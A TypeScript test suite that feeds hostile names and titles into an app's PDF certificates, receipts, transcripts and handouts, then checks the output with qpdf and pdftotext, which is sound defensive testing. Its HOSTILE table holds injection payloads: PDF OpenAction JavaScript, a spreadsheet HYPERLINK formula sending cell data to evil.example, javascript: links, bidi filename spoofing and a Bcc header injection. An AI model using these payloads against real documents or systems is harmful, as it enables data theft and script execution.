import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { auditFilePdf } from '#admin/reports/accreditation/sheet.serializer.ts';
import { receiptTexts } from '#billing/receipt/receipt.messages.ts';
import type { Receipt } from '#billing/receipt/receipt.repository.ts';
import { receiptPdf } from '#billing/receipt/sheet.serializer.ts';
import { certificatePdf } from '#credit/certificate/sheet.serializer.ts';
import { trainingPdf } from '#credit/training/sheet.serializer.ts';
import { transcriptPdf } from '#credit/transcript/sheet.serializer.ts';
import { oneLine } from '#kit/text/one-line.ts';
import { broughtSpeechIn } from '#locale/speech.service.ts';
import { handoutPdf } from '#media/file/handout.serializer.ts';
import { certificateOf } from './papers.fixture.ts';
import { RECOMMENDED } from './scripts.data.ts';

/** Every paper, with hostile names and titles, before readers that share no line with what wrote it. */
const missing = ['qpdf', 'pdftotext'].filter((program) => spawnSync(program, ['--version']).error);
const withReaders = { skip: missing.length > 0 ? `${missing.join(' and ')} cannot be run here` : false };

let folder: string;
before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'papers-'));
});
after(() => rm(folder, { recursive: true }));

const DAY = new Date('2026-11-04T00:05:00Z');
const paper = 'a4' as const;
const certificate = (text: string) =>
  certificatePdf([certificateOf(text)], { paper, demo: true, mainOrigin: 'https://steadystate.example' });
const linesOf = (text: string) =>
  Array.from({ length: 3 }, (_, at) => ({
    position: at,
    publicationId: 2700 + at,
    kind: 1 as const,
    title: text,
    learningFormat: text,
    hundredths: 125,
    pharmacologyHundredths: 25,
    earnedAt: DAY,
    certificateId: at,
    certificateNumber: `SS-${2700 + at}-00400`,
  }));
const transcript = (text: string) =>
  transcriptPdf(linesOf(text), {
    paper,
    demo: true,
    productName: text,
    learner: { name: text, profession: text },
    period: { from: '2026-01-01', to: null },
    kind: null,
    now: DAY,
    today: '2026-11-21',
  });
const training = (text: string) =>
  trainingPdf(
    {
      minutes: 90,
      requiredMinutes: 480,
      authority: 'DEA',
      source: text,
      sourceOn: null,
      checkedOn: null,
      confidence: '',
      activities: linesOf(text).map((line) => ({ ...line, mateMinutes: 30, minutes: 30 })),
    },
    {
      paper,
      demo: true,
      provider: { name: text, address: text },
      learner: { name: text, profession: text },
      now: DAY,
      today: '2026-11-21',
    },
  );
const RECEIPT: Omit<Receipt, 'payer' | 'tierName' | 'card'> = {
  number: 7,
  kind: 'payment',
  orderId: 1001,
  userId: 1,
  issuedAt: DAY,
  rebillDays: 365,
  orderKind: 'purchase',
  termStartsAt: DAY,
  termEndsAt: DAY,
  taxPerMillion: 88_750,
  amountCents: 9900,
  creditCents: 100,
  discountCents: 100,
  taxCents: 666,
  totalCents: 10_366,
  currency: 'USD',
};
const receipt = (text: string) =>
  receiptPdf(
    {
      ...RECEIPT,
      payer: { name: text, email: text, address: `${text}\n${text}` },
      tierName: text,
      card: { brand: text, last4: '4242' },
    },
    broughtSpeechIn('en', receiptTexts),
    { paper, demo: true, productName: text, supportEmail: text, language: 'en' },
  );
const accreditation = (text: string) =>
  auditFilePdf([{ title: text, parts: [{ title: text, lines: [{ of: text, text }, { text }] }] }], {
    paper,
    demo: true,
    productName: text,
    title: text,
    period: text,
    now: DAY,
  });
const handout = (text: string) =>
  handoutPdf({
    title: text,
    publication: text,
    product: text,
    demo: true,
    markdown: `${text}\n\n- ${text}\n`,
  });
const PAPERS = { certificate, transcript, training, receipt, accreditation, handout };

const HOSTILE: Record<string, string> = {
  parentheses: 'Ana (M.D.)) endstream endobj ((',
  backslashes: 'Ana \\) \\( \\\\ \\053 \\',
  'marks of direction': '\u202eAna\u202c \u200fgnp.exe \u2067(Yoon)\u2069\u200e',
  '500 letters of one word': `Ana${'W'.repeat(497)}`,
  '500 letters of many words': `Ana ${'of Steady '.repeat(49)}Rest`,
  'control characters': 'Ana\u0007 \u001b[31mYoon\u0000\u0008\u007f\u0085\u2028\r\nBcc: x@y.example',
  'a formula': '=HYPERLINK("http://evil.example/?x="&A1;"Ana")',
  'an action of a document': '<</OpenAction<</S/JavaScript/JS(app.alert(1))>>/AA<</O<</S/Launch>>>>>>',
  'names of a document': 'Ana /JS /URI (http://evil.example) /EmbeddedFile #2FJS %%EOF',
  'half a letter': 'Ana \ud83d Yoon',
  'markup and addresses': '<a href="javascript:alert(1)">Ana</a> http://evil.example/ [x](//evil.example)',
  'nothing but spaces': ' \t ',
};
/** What makes a document act, reach out or carry something. */
const ACTS =
  /^\/(JS|JavaScript|OpenAction|Launch|URI|AA|A|Annots|EmbeddedFiles?|EF|RichMedia|XFA|AcroForm|GoToR|SubmitForm)$/;

function run(program: string, args: string[]): string {
  const { status, stdout, stderr } = spawnSync(program, args, { encoding: 'utf8', maxBuffer: 1e8 });
  assert.equal(status, 0, `${program}: ${stdout}${stderr}`);
  return stdout;
}
/** Every key and every name of a document's objects, as qpdf reads them. */
function namesIn(value: unknown): string[] {
  if (typeof value === 'string') return value.startsWith('/') ? [value] : [];
  if (Array.isArray(value)) return value.flatMap(namesIn);
  if (value === null || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([key, one]) => [key, ...namesIn(one)]);
}
/** Letters alone: how a line is broken, spaced or laid from right to left is another matter. */
const letters = (text: string): string => oneLine(text).replaceAll(/[^\p{L}\p{N}]/gu, '');

for (const [name, draw] of Object.entries(PAPERS))
  for (const [what, text] of Object.entries(HOSTILE))
    test(`the ${name} with ${what} is whole, says it as text, and does nothing`, withReaders, async () => {
      const file = join(folder, `${name}.pdf`);
      await writeFile(file, await draw(text));
      assert.match(run('qpdf', ['--check', file]), /No syntax or stream encoding errors found/);
      const objects = namesIn(JSON.parse(run('qpdf', ['--json=2', file])).qpdf);
      assert.deepEqual(
        objects.filter((one) => ACTS.test(one)),
        [],
      );
      const boxes = run('pdftotext', ['-bbox', file, '-']);
      assert.deepEqual(boxes.match(/[^\P{C}\n\f]|\ufffd/gu), null, 'signs that are no letters');
      const told = boxes.replaceAll(/<[^>]*>/g, '').replaceAll(/&(?:amp|lt|gt|quot);/g, '');
      assert.ok(letters(told).includes(letters(text).slice(0, 12)), told);
      assertWithinPages(boxes, name);
    });

test('only a hand-out of the demo library says that it is one', withReaders, async () => {
  const terms = { title: 'Dosing', publication: 'Lithium', product: 'Steady State', markdown: 'Start low.' };
  const file = join(folder, 'handout-of.pdf');
  for (const demo of [true, false]) {
    await writeFile(file, await handoutPdf({ ...terms, demo }));
    assert.equal(run('pdftotext', [file, '-']).includes('Demo library'), demo);
  }
});

/** A handout is a sheet of the library's own and names nobody. */
const { handout: _nobody, ...OF_PEOPLE } = PAPERS;
for (const [name, draw] of Object.entries(OF_PEOPLE))
  test(`the ${name} says names of many scripts as text`, withReaders, async () => {
    for (const [one = ''] of Object.values(RECOMMENDED)) {
      const file = join(folder, `${name}-names.pdf`);
      await writeFile(file, await draw(one));
      const told = run('pdftotext', [file, '-']).normalize('NFKC');
      for (const word of one.normalize('NFKC').split(' '))
        assert.ok(told.includes(word), `${word} in ${told}`);
    }
  });

/** No word stands outside its page, where nobody reads it. */
function assertWithinPages(boxes: string, name: string): void {
  for (const page of boxes.split('<page ').slice(1)) {
    const of = (text: string, key: string) => Number(new RegExp(`\\b${key}="([\\d.-]+)"`).exec(text)?.[1]);
    for (const [word] of page.matchAll(/<word [^>]*>/g))
      assert.ok(
        of(word, 'xMin') >= 0 &&
          of(word, 'yMin') >= -1 &&
          of(word, 'xMax') <= of(page, 'width') &&
          of(word, 'yMax') <= of(page, 'height'),
        `${name}: ${word} in ${page.slice(0, 60)}`,
      );
  }
}
